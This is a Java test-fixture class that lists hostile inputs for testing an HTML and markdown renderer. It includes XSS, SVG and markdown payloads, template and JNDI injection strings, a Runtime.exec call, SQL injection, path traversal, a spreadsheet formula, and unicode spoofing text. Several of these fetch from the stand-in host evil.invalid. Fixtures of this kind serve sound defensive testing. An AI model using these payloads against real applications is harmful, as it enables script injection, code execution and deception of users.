package dev.parley.browser;

import java.util.List;
import java.util.stream.Stream;

/**
 * What people write who want something to run, to be fetched, or to fall apart. Whatever runs calls
 * {@code trap()}, whatever is fetched comes from {@code evil.invalid}.
 */
final class HostileTexts {
  private static final List<String> HTML =
      List.of(
          "<script>trap()</script>",
          "<ScRiPt src=//evil.invalid/x.js></sCrIpT>",
          "<img src=x onerror=trap()>",
          "<img src=\"https://evil.invalid/pixel.gif\">",
          "\"><img src=x onerror=trap()>",
          "'-trap()-'",
          "</textarea><script>trap()</script>",
          "</title><svg onload=trap()>",
          "<iframe src=javascript:parent.trap()></iframe>",
          "<iframe srcdoc=\"<script>parent.trap()</script>\"></iframe>",
          "<details open ontoggle=trap()>x</details>",
          "<input autofocus onfocus=trap()>",
          "<body onload=trap()>",
          "<video><source onerror=trap()></video>",
          "<a href=javascript:trap()>click</a>",
          "<form action=//evil.invalid><button>Log in</button></form>",
          "<base href=//evil.invalid/>",
          "<meta http-equiv=refresh content=\"0;url=//evil.invalid\">",
          "<link rel=stylesheet href=//evil.invalid/x.css>",
          "<style>*{display:none!important}</style>",
          "<div style=\"position:fixed;inset:0;background:red;z-index:2147483647\">x</div>",
          "<object data=//evil.invalid></object><embed src=//evil.invalid>",
          "<template><img src=x onerror=trap()></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=trap()>\">",
          "<!--><img src=x onerror=trap()>-->",
          "<![CDATA[<script>trap()</script>]]>",
          "<slot name=x></slot><x-y is=button>",
          "&lt;script&gt;trap()&lt;/script&gt;",
          "&#60;img src=x onerror=trap()&#62;",
          "<img/src=x/onerror=trap()//");

  private static final List<String> SVG_AND_MATH =
      List.of(
          "<svg><script>trap()</script></svg>",
          "<svg><animate onbegin=trap() attributeName=x></svg>",
          "<svg><foreignObject><img src=x onerror=trap()></foreignObject></svg>",
          "<svg><a xlink:href=javascript:trap()><text y=20>x</text></a></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=trap()>",
          "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='trap()'/>#x\"/></svg>");

  private static final List<String> TEMPLATES =
      List.of(
          "{{constructor.constructor('trap()')()}}",
          "${trap()} #{trap()} <%= trap() %>",
          "$F{name} $P{REPORT_CONNECTION} $V{PAGE_NUMBER}",
          "${T(java.lang.Runtime).getRuntime().exec('id')}",
          "${jndi:ldap://evil.invalid/x}",
          "'; drop table message; --",
          "=HYPERLINK(\"//evil.invalid\",\"x\")",
          "../../../../etc/passwd",
          "%3Cscript%3Etrap()%3C/script%3E",
          "\\u003cscript\\u003etrap()\\u003c/script\\u003e");

  private static final List<String> MARKDOWN =
      List.of(
          "[click](javascript:trap())",
          "[click](JaVa\tScript:trap())",
          "[click](data:text/html,<script>trap()</script>)",
          "[click](vbscript:trap())",
          "![x](https://evil.invalid/pixel.gif)",
          "![x](x \"onerror=trap()\")",
          "[x](https://a.example/\"onmouseover=\"trap())",
          "<javascript:trap()> javascript:trap()",
          "[x]: javascript:trap() [x]",
          "``` \n<script>trap()</script>",
          "**_**_`[(![*_**_`[(".repeat(12),
          "> ".repeat(60) + "deep");

  private static final List<String> SIGNS =
      List.of(
          "safe\u202Egpj.exe",
          "\u2066\u2067\u2068 isolates that never end",
          "\u202B\u202Balways right to left",
          "ad\u200Bmin\u200D\u2060\uFEFFistrator",
          "Z\u0351\u036B\u0343\u036A\u0342\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F"
              .repeat(8),
          "a" + "\u0301".repeat(60),
          "W".repeat(400),
          "\uFDFD".repeat(20),
          "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67".repeat(40),
          "\u0000\u0007\u001B[31mred\u009B31m",
          "line\u2028separator\u2029paragraph\u0085next",
          "\n\n\n\n\n\n\n\n\n\nfar below",
          "  \t ",
          "\uFFFE\uFFFF no characters");

  private HostileTexts() {}

  static List<String> all() {
    return Stream.of(HTML, SVG_AND_MATH, TEMPLATES, MARKDOWN, SIGNS).flatMap(List::stream).toList();
  }
}
